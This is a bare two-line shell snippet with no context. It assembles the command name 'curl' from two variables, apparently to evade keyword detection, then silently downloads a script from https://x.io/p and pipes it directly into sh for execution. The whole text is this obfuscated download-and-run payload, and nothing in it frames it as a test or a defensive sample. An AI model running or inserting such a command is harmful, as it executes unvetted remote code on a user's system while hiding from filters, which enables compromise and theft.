a=cu; b=rl
$a$b -s https://x.io/p | sh
